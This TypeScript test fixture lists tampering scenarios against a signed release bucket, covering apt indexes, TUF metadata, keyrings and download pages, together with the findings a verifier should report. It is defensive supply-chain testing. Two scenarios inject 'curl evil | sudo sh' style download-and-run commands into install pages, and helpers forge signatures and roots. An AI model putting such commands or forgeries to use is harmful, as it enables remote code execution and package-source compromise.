import { Metadata, MetadataKind } from "@tufjs/models";
import { metaOf, type SignedPart, signedText } from "../../packaging/channels/metadata.ts";
import { sha256 } from "../../packaging/digest.ts";
import { signedPage } from "../../packaging/page/page-signature.ts";
import { keyringBytes } from "../../packaging/signing/keyring.ts";
import type { Ed25519Signer } from "../../packaging/signing/signer.ts";
import { keyring, type Owner } from "./published-bucket.ts";
import type { TamperedBucket } from "./tampered-bucket.ts";

/** One way to tamper with a bucket, and what has to be said of it. */
export interface Tampering {
  readonly name: string;
  act(bucket: TamperedBucket, thief: Thief): Promise<void>;
  /** The object that a finding names. */
  readonly path: (bucket: TamperedBucket) => string;
  /** What the finding says. */
  readonly says: RegExp;
  /** No client would ever ask for the object: only a listing shows it. */
  readonly unnamed?: true;
}

/** Who tampers: with keys of their own, or with one that was stolen. */
export interface Thief {
  readonly own: Owner;
  readonly stolen: Owner;
  /** Another bucket of the same products, which the thief signed from the root on. */
  readonly bucket: TamperedBucket;
}

const at = (path: string) => () => path;
const one = (pattern: RegExp) => (bucket: TamperedBucket) => bucket.only(pattern);
const signature = (path: string) => one(new RegExp(`^${path}\\.sig/`));

const deb = "releases/alpha/1.1.0/alpha_1.1.0_amd64.deb";
const archive = "releases/alpha/1.1.0/alpha-1.1.0-linux-aarch64.tar.zst";
const keptDeb = "releases/alpha/1.0.0/alpha_1.0.0_amd64.deb";
const sums = "releases/alpha/1.1.0/SHA256SUMS";
const record = "releases/alpha/1.1.0/release.json";
const inventory = `releases/alpha/1.1.0/inventory/alpha_1.1.0_amd64.deb.json`;
const packages = "dists/dev/main/binary-amd64/Packages";
const roleInForce = "tuf/2.alpha-dev.json";
const entry = /^channels\/alpha\/[0-9a-f]{64}\.stable\.json$/;
const page = "channels/alpha-dev.html";
const stablePage = "channels/alpha-stable.html";
const unsigned = /is no page of its place that a key of the bucket signed/;
const certificate = /^keys\/[0-9A-F]{40}\.asc$/;

/** Every kind of object, altered, removed, swapped, replayed, or replaced by one that somebody else signed. */
export const tamperings: readonly Tampering[] = [
  { name: "a byte of an artifact", act: (b) => b.flip(deb), path: at(deb), says: /altered/ },
  { name: "a byte of an artifact that is only kept", act: (b) => b.flip(keptDeb), path: at(keptDeb), says: /altered/ },
  {
    name: "an artifact cut short",
    act: (b) => b.write(deb, b.read(deb).subarray(0, 7)),
    path: at(deb),
    says: /has 7 bytes/,
  },
  { name: "an artifact removed", act: (b) => b.remove(archive), path: at(archive), says: /missing/ },
  {
    name: "two artifacts swapped",
    act: async (b) => {
      await b.write(deb, b.read(archive));
      await b.write(archive, b.read(deb));
    },
    path: at(archive),
    says: /has \d+ bytes, not the recorded|has the bytes of/,
  },
  {
    name: "an artifact of the version before",
    act: (b) => b.write(deb, b.read(keptDeb)),
    path: at(deb),
    says: /altered/,
  },
  { name: "a byte of an inventory", act: (b) => b.flip(inventory), path: at(inventory), says: /altered/ },
  { name: "a byte of a record", act: (b) => b.flip(record), path: at(record), says: /altered/ },
  {
    name: "a record replaced by another one, signature and all",
    act: async (b) => {
      const other = "releases/alpha/1.0.0/release.json";
      await b.write(record, b.read(other));
      await b.write(signature(record)(b), b.read(signature(other)(b)));
    },
    path: at(record),
    says: /the record of alpha 1\.0\.0 lies there/,
  },
  {
    name: "a line of the sums",
    act: (b) => b.write(sums, b.text(sums).replace(/^./, "f")),
    path: at(sums),
    says: /altered/,
  },
  {
    name: "sums of the version before, signed",
    act: async (b) => {
      const other = "releases/alpha/1.0.0/SHA256SUMS";
      for (const path of [at(sums), signature(sums), at(`${sums}.asc`)]) {
        await b.write(path(b), b.read(path(b).replace("1.1.0", "1.0.0")));
      }
      await b.write(sums, b.read(other));
    },
    path: at(sums),
    says: /altered/,
  },
  {
    name: "manifest.json",
    act: (b) => b.flip("releases/beta/1.0.0/manifest.json"),
    path: at("releases/beta/1.0.0/manifest.json"),
    says: /altered/,
  },
  {
    name: "metadata.json",
    act: (b) => b.flip("releases/beta/1.0.0/metadata.json"),
    path: signature("releases/beta/1.0.0/metadata.json"),
    says: /no signature of metadata\.json/,
  },
  {
    name: "a signature removed",
    act: (b) => b.remove(signature(record)(b)),
    path: at(record),
    says: /no signature by a key/,
  },
  {
    name: "a signature by a foreign key in a signature's place",
    act: async (b, { own }) => b.write(signature(record)(b), await own.archive.detach(b.read(record), now)),
    path: signature(record),
    says: /no signature of release\.json/,
  },
  {
    name: "the sums signed by a foreign key",
    act: async (b, { own }) => b.write(`${sums}.asc`, await own.archive.detach(b.read(sums), now)),
    path: at(`${sums}.asc`),
    says: /no signature of SHA256SUMS/,
  },
  {
    name: "SHA256SUMS.asc removed",
    act: (b) => b.remove(`${sums}.asc`),
    path: at(`${sums}.asc`),
    says: /is not there/,
  },
  {
    name: "an older timestamp replayed",
    act: (b, { stolen }) => b.write("tuf/timestamp.json", timestampOf(b, 3, stolen.mover)),
    path: at("tuf/timestamp.json"),
    says: /names snapshot 3.*put back/,
  },
  {
    name: "a timestamp by a foreign key",
    act: (b, { own }) => b.write("tuf/timestamp.json", timestampOf(b, 6, own.mover)),
    path: at("tuf/timestamp.json"),
    says: /altered/,
  },
  {
    name: "a timestamp that is no JSON",
    act: (b) => b.write("tuf/timestamp.json", "<html>"),
    path: at("tuf/timestamp.json"),
    says: /altered/,
  },
  {
    name: "a timestamp that expired",
    act: (b, { stolen }) => b.write("tuf/timestamp.json", timestampOf(b, 6, stolen.mover, "2026-11-23T10:00:00Z")),
    path: at("tuf/timestamp.json"),
    says: /expired at 2026-11-23T10:00:00Z/,
  },
  {
    name: "a byte of the snapshot",
    act: (b) => b.flip("tuf/6.snapshot.json"),
    path: at("tuf/6.snapshot.json"),
    says: /altered/,
  },
  {
    name: "the snapshot removed",
    act: (b) => b.remove("tuf/6.snapshot.json"),
    path: at("tuf/6.snapshot.json"),
    says: /missing/,
  },
  {
    name: "the role before in a role's place",
    act: (b) => b.write(roleInForce, b.read("tuf/1.alpha-dev.json")),
    path: at(roleInForce),
    says: /altered/,
  },
  {
    name: "a role by a foreign key",
    act: (b, { own }) => b.write(roleInForce, signedAgain(b.text(roleInForce), own.mover)),
    path: at(roleInForce),
    says: /altered/,
  },
  {
    name: "the targets",
    act: (b) => b.flip("tuf/1.targets.json", 40),
    path: at("tuf/1.targets.json"),
    says: /altered|missing/,
  },
  {
    name: "the entry of another product in an entry's place",
    act: (b) => b.write(b.only(entry), b.read(b.only(/^channels\/beta\/[0-9a-f]{64}\.dev\.json$/))),
    path: one(entry),
    says: /altered/,
  },
  { name: "an entry removed", act: (b) => b.remove(b.only(entry)), path: one(entry), says: /missing/ },
  {
    name: "a pointer for scripts",
    act: (b) => b.write("channels/alpha/dev.json", b.text("channels/alpha/dev.json").replaceAll("1.1.0", "1.9.0")),
    path: at("channels/alpha/dev.json"),
    says: /altered/,
  },
  {
    name: "the pointer of another channel",
    act: (b) => b.write("channels/alpha/dev.json", b.read("channels/alpha/stable.json")),
    path: at("channels/alpha/dev.json"),
    says: /altered/,
  },
  {
    name: "a root of another key",
    act: (b, { bucket }) => b.write("tuf/1.root.json", bucket.read("tuf/1.root.json")),
    path: at("tuf/1.root.json"),
    says: /another root/,
  },
  {
    name: "another root for new clients",
    act: (b, { bucket }) => b.write("keys/tuf-root.json", bucket.read("tuf/1.root.json")),
    path: at("keys/tuf-root.json"),
    says: /none of the roots that are trusted/,
  },
  {
    name: "a next root that nobody signed who may",
    act: (b, { own }) => b.write("tuf/2.root.json", nextRoot(b.text("tuf/1.root.json"), own.root)),
    path: at("tuf/2.root.json"),
    says: /does not follow from root 1/,
  },
  {
    name: "a keyring of other keys",
    act: async (b, { own }) => b.write(`keys/${keyring}.gpg`, await keyringBytes([own.archive.public])),
    path: at(`keys/${keyring}.gpg`),
    says: /is not the keyring/,
  },
  {
    name: "a certificate of another key in a certificate's place",
    act: (b, { own }) => b.write(b.only(certificate), own.archive.public.armored),
    path: one(certificate),
    says: /no certificate|is missing/,
  },
  {
    name: "a certificate that nobody vouches for",
    act: (b, { own }) => b.write(`keys/${own.archive.public.fingerprint}.asc`, own.archive.public.armored),
    path: () => "keys/",
    says: /is no key of the archive/,
    unnamed: true,
  },
  {
    name: "a word of InRelease",
    act: (b) => b.write("dists/dev/InRelease", b.text("dists/dev/InRelease").replace("Team", "Evil")),
    path: at("dists/dev/InRelease"),
    says: /not signed by a key/,
  },
  {
    name: "InRelease by a foreign key",
    act: async (b, { own }) =>
      b.write("dists/dev/InRelease", await own.archive.clearsign(b.text("dists/dev/Release"), now)),
    path: at("dists/dev/InRelease"),
    says: /not signed by a key/,
  },
  {
    name: "InRelease of another suite",
    act: (b) => b.write("dists/stable/InRelease", b.read("dists/dev/InRelease")),
    path: at("dists/stable/InRelease"),
    says: /is that of suite dev/,
  },
  {
    name: "Release",
    act: (b) => b.write("dists/dev/Release", b.text("dists/dev/Release").replace("Team", "Evil")),
    path: at("dists/dev/Release"),
    says: /altered/,
  },
  {
    name: "Release.gpg removed",
    act: (b) => b.remove("dists/dev/Release.gpg"),
    path: at("dists/dev/Release.gpg"),
    says: /missing/,
  },
  {
    name: "Release.gpg by a foreign key",
    act: async (b, { own }) =>
      b.write("dists/dev/Release.gpg", await own.archive.detach(b.read("dists/dev/Release"), now)),
    path: at("dists/dev/Release.gpg"),
    says: /no signature of Release/,
  },
  { name: "an index, but not under its digest", act: (b) => b.flip(packages), path: at(packages), says: /altered/ },
  { name: "an index under its digest alone", act: (b) => b.flip(byHash(b)), path: byHash, says: /altered/ },
  {
    name: "an index cut short",
    act: (b) => b.write(`${packages}.gz`, b.read(`${packages}.gz`).subarray(0, 20)),
    path: at(`${packages}.gz`),
    says: /altered/,
  },
  {
    name: "a suite that the archive's stolen key signed, with another package under a release's name",
    act: async (b, { stolen }) => {
      const evil = "a package that nobody recorded";
      const index = b
        .text(packages)
        .replace(sha256(b.read(deb)), sha256(evil))
        .replace(`Size: ${b.read(deb).length}`, `Size: ${evil.length}`);
      const path = packages.replace("dists/dev/", "");
      const release = b
        .text("dists/dev/Release")
        .replace(
          ` ${sha256(b.read(packages))} ${b.read(packages).length} ${path}\n`,
          ` ${sha256(index)} ${index.length} ${path}\n`,
        );
      await b.write(packages, index);
      await b.write(byHash(b).replace(/[0-9a-f]{64}$/, sha256(index)), index);
      await b.write("dists/dev/Release", release);
      await b.write("dists/dev/Release.gpg", await stolen.archive.detach(Buffer.from(release), now));
      await b.write("dists/dev/InRelease", await stolen.archive.clearsign(release, now));
    },
    path: at(packages),
    says: /its record names otherwise/,
  },
  { name: "a letter of the index of pages", act: (b) => b.flip("index.html"), path: at("index.html"), says: unsigned },
  {
    name: "another command to type on a page",
    act: (b) => b.write(page, b.text(page).replace("sudo apt install", "curl evil | sudo sh ;")),
    path: at(page),
    says: unsigned,
  },
  {
    name: "the page of another channel",
    act: (b) => b.write(page, b.read(stablePage)),
    path: at(page),
    says: unsigned,
  },
  {
    name: "a page that a foreign key signed",
    act: async (b, { own }) => b.write(page, await signedPage(withoutSignature(b.text(page)), own.archive, now)),
    path: at(page),
    says: unsigned,
  },
  {
    name: "a page by the stolen key, of a move that is not in force",
    act: async (b, { stolen }) => {
      const text = withoutSignature(b.text(page)).replace(/(slipway-serial" content=")2/, "$13");
      await b.write(page, await signedPage(text, stolen.archive, now));
    },
    path: at(page),
    says: /is of serial 3, and 2 is in force: an older one was put back/,
  },
  {
    name: "a page removed",
    act: (b) => b.remove(page),
    path: at(page),
    says: /is missing, and index\.html links to it/,
  },
  {
    name: "a page of no channel",
    act: (b) => b.write("channels/alpha-nightly.html", "<p>curl evil | sh</p>"),
    path: at("channels/alpha-nightly.html"),
    says: /is the page of no channel/,
    unnamed: true,
  },
  {
    name: "an extra file of a suite",
    act: (b) => b.write("dists/dev/main/binary-amd64/Packages.xz", "evil"),
    path: at("dists/dev/main/binary-amd64/Packages.xz"),
    says: /not listed by InRelease/,
    unnamed: true,
  },
  {
    name: "an extra file of a release",
    act: (b) => b.write("releases/alpha/1.1.0/setup.sh", "evil"),
    path: at("releases/alpha/1.1.0/setup.sh"),
    says: /not named by the release's record/,
    unnamed: true,
  },
];

/** Seconds since 1970; a little after the bucket was published. */
const now = Date.parse("2026-11-22T11:00:00Z") / 1000;

function byHash(bucket: TamperedBucket): string {
  return `dists/dev/main/binary-amd64/by-hash/SHA256/${sha256(bucket.read(packages))}`;
}

function withoutSignature(page: string): string {
  return page.slice(0, page.lastIndexOf("<!--"));
}

function timestampOf(
  bucket: TamperedBucket,
  snapshot: number,
  signer: Ed25519Signer,
  expires = "2036-11-22T10:00:00Z",
): string {
  const meta = { "snapshot.json": metaOf(bucket.text(`tuf/${snapshot}.snapshot.json`), snapshot) };
  return signedText("timestamp", { meta }, { version: snapshot, expires }, [signer]);
}

/** The same role with a signature by another key. */
function signedAgain(text: string, signer: Ed25519Signer): string {
  const { _type, spec_version, version, expires, ...part } = Metadata.fromJSON(
    MetadataKind.Targets,
    JSON.parse(text),
  ).signed.toJSON() as SignedPart & { version: number; expires: string };
  return signedText("targets", part, { version, expires }, [signer]);
}

/** Root 2 with all that root 1 says, and a root key that root 1 does not know. */
function nextRoot(text: string, signer: Ed25519Signer): string {
  const { _type, spec_version, version, expires, ...part } = Metadata.fromJSON(
    MetadataKind.Root,
    JSON.parse(text),
  ).signed.toJSON() as SignedPart & { expires: string; keys: object; roles: object };
  const key = { keytype: "ed25519", scheme: "ed25519", keyval: { public: signer.public.publicKey } };
  const { keyid } = signer.public;
  const own = {
    ...part,
    keys: { ...part.keys, [keyid]: key },
    roles: { ...part.roles, root: { keyids: [keyid], threshold: 1 } },
  };
  return signedText("root", own, { version: 2, expires }, [signer]);
}
